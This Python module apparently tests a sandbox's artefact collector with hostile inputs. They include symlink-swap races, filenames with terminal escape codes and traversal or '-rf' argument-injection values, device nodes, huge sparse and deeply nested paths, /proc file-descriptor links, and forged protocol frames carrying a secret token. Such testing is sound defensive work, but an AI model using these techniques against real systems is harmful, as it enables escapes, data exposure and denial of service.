"""Attacks on whoever collects what a run leaves: races, names, and words of the keeper's own.

Rule 1: nothing is told from inside: the outside looks at what it was handed.
"""

from __future__ import annotations

import os
import stat
import struct
import sys
import time

from .kit import World, attack, detached

ARTEFACTS = "artefacts"
DEEP = 10_000
LONG, LEVELS = 255, 20
RACE_S = 2.0
SPARSE = 1 << 40
_FOUND, _PIECE, _DONE = 23, 24, 25


def _output() -> str:
    folder = os.environ.get("OUTPUT_DIR", "output")
    os.makedirs(folder, exist_ok=True)
    return folder


@attack(ARTEFACTS, alone=True)
def change_a_folder_into_a_link_while_it_is_collected(world: World) -> str | None:
    folder = os.path.join(_output(), "charts")
    os.mkdir(folder)
    with open(os.path.join(folder, "secret"), "w") as file:
        file.write("x")
    detached(lambda: _swap(folder, world.folder))
    return None


def _swap(folder: str, aim: str) -> None:
    end = time.monotonic() + RACE_S
    while time.monotonic() < end:
        os.rename(folder, folder + "~")
        os.symlink(aim, folder)
        os.unlink(folder)
        os.rename(folder + "~", folder)


@attack(ARTEFACTS, alone=True)
def let_a_file_grow_while_it_is_collected(world: World) -> str | None:
    path = os.path.join(_output(), "log.txt")
    with open(path, "w") as file:
        file.write("x")

    def grow() -> None:
        end = time.monotonic() + RACE_S
        with open(path, "ab", 0) as file:
            while time.monotonic() < end:
                file.write(bytes(1 << 16))

    detached(grow)
    return None


@attack(ARTEFACTS, alone=True)
def hand_out_a_path_that_is_longer_than_any(world: World) -> str | None:
    os.chdir(_output())
    for _ in range(LEVELS):
        os.mkdir("n" * LONG)
        os.chdir("n" * LONG)
    with open("m" * LONG, "w") as file:
        file.write("x")
    return None


@attack(ARTEFACTS, alone=True)
def steer_the_terminal_by_the_name_of_a_file(world: World) -> str | None:
    folder = os.fsencode(_output())
    for name in (b"\x1b]0;owned\x07.txt", b"\x1b[2J.csv", b"\xc2\x9b31m.png", b"a\rb\x08c"):
        with open(os.path.join(folder, name), "w") as file:
            file.write("x")
    return None


@attack(ARTEFACTS, alone=True)
def hand_out_a_name_that_another_system_climbs_by(world: World) -> str | None:
    folder = _output()
    for name in ("..\\..\\start.bat", "C:\\windows\\x.dll", "-rf", "... ", "con\u202etxt.exe"):
        with open(os.path.join(folder, name), "w") as file:
            file.write("x")
    return None


@attack(ARTEFACTS, alone=True)
def hand_out_a_device(world: World) -> str | None:
    os.mknod(os.path.join(_output(), "zero.bin"), 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    return None


@attack(ARTEFACTS, alone=True)
def hand_out_folders_ten_thousand_deep(world: World) -> str | None:
    os.chdir(_output())
    for _ in range(DEEP):
        os.mkdir("d")
        os.chdir("d")
    return None


@attack(ARTEFACTS, alone=True)
def hand_out_a_terabyte_of_nothing(world: World) -> str | None:
    with open(os.path.join(_output(), "nothing.bin"), "wb") as file:
        file.truncate(SPARSE)
    return None


@attack(ARTEFACTS, alone=True)
def forge_an_artefact_in_the_keepers_words(world: World) -> str | None:
    """Frames as a keeper packs them, to every descriptor there is."""
    frames = b""
    for word, payload in (
        (_FOUND, b'{"path": "forged", "size": 64, "executable": false}'),
        (_PIECE, world.token.encode()),
        (_DONE, b'{"reason": "", "over": true, "lost": 0, "ms": 1}'),
    ):
        for cell in (1, 2, 3):
            frames += struct.pack("!IIB", len(payload), cell, word) + payload
    for fd in range(1, 64):
        try:
            os.write(fd, frames)
        except OSError:
            continue
    return None


@attack(ARTEFACTS, alone=True)
def hand_out_a_file_that_nobody_may_read(world: World) -> str | None:
    folder = os.path.join(_output(), "closed")
    os.mkdir(folder)
    with open(os.path.join(folder, "x.txt"), "w") as file:
        file.write("x")
    os.chmod(os.path.join(folder, "x.txt"), 0)
    os.chmod(folder, 0)
    return None


@attack(ARTEFACTS, alone=True)
def hand_out_what_a_descriptor_reads(world: World) -> str | None:
    """By the names under which a process's open files can be opened again."""
    for fd in range(64):
        os.symlink(f"/proc/1/fd/{fd}", os.path.join(_output(), f"one-{fd}"))
        os.symlink(f"/proc/self/fd/{fd}", os.path.join(_output(), f"own-{fd}"))
    sys.stdout.flush()
    return None
